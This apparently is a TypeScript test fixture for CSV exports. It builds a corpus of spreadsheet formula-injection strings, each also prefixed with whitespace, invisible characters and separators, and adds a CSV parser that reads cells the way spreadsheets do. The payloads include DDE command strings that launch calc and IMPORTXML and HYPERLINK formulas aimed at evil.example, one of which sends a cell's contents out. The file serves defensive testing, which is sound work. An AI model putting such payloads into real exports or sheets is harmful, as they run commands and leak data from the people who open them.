/** Formula injections for spreadsheets, and a CSV parser for tests. */

const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","x")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '+1+1',
  '+60123456789',
  '-2+3',
  '-1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '−1',
  '%0A=1',
  '|calc',
]

/** Each formula alone, and after characters that spreadsheets skip or use as separators. */
export const formulaCorpus: readonly string[] = formulas.flatMap((text) => [
  text,
  ...[
    '\t',
    '\r',
    '\n',
    '\r\n',
    ' ',
    '\u00a0',
    '\u3000',
    '\u200b',
    '\ufeff',
    '\u0000',
    "'",
    '"',
  ].map((prefix) => prefix + text),
  `Jalan 1;${text}`,
  `Jalan 1\t${text}`,
  `Jalan 1\n${text}`,
  `","${text}`,
  `";"${text}`,
  `a";${text}`,
])

/** Parses CSV as spreadsheets do: a quote opens a quoted cell only at its start. */
export function readCsv(text: string, separator: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let isQuoted = false
  const body = text.startsWith('\uFEFF') ? text.slice(1) : text
  for (let index = 0; index < body.length; index++) {
    const character = body[index] ?? ''
    if (isQuoted) {
      if (character !== '"') cell += character
      else if (body[index + 1] === '"') {
        cell += '"'
        index++
      } else isQuoted = false
    } else if (character === '"' && cell === '') isQuoted = true
    else if (character === separator) {
      row.push(cell)
      cell = ''
    } else if (character === '\n') {
      rows.push([...row, cell.replace(/\r$/, '')])
      row = []
      cell = ''
    } else cell += character
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell])
  return rows
}
